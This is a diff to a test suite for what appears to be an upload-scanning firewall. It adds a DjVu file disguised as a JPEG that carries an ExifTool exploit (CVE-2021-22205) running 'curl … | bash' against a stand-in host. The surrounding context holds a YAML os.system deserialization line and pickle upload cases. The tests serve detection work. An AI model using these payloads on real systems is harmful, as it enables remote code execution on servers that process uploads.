@@ -200,6 +200,18 @@ describe("bodies", () => {
       "934155@body:raw.pickle",
     );
     expect(upload("model.pkl", "application/octet-stream", p4)).toContain("934155@body:multipart.file.content.pickle");
+    // An "image" that is DjVu, whose metadata ExifTool evaluated (CVE-2021-22205), by its magic, not its name.
+    const djvu = (meta: string) => `AT&TFORM\u0000\u0000\u0003\u0007DJVMANTa\u0000\u0000\u0001P${meta}\n`;
+    expect(
+      upload(
+        "photo.jpg",
+        "image/jpeg",
+        djvu('(metadata (Copyright "\\\n" . qx{curl -s http://x.example/g.sh | bash} . \\\n" b ") )'),
+      ),
+    ).toContain("932100@body:multipart.file.content.metadata");
+    expect(upload("book.djvu", "image/vnd.djvu", djvu('(metadata (Author "Ada Lovelace") (Title "Notes"))'))).toEqual(
+      [],
+    );
     // A YAML file's language tags, not its shell steps.
     expect(
       upload("MLmodel", "application/x-yaml", 'flavors:\n  custom: !!python/object/apply:os.system ["id"]\n'),
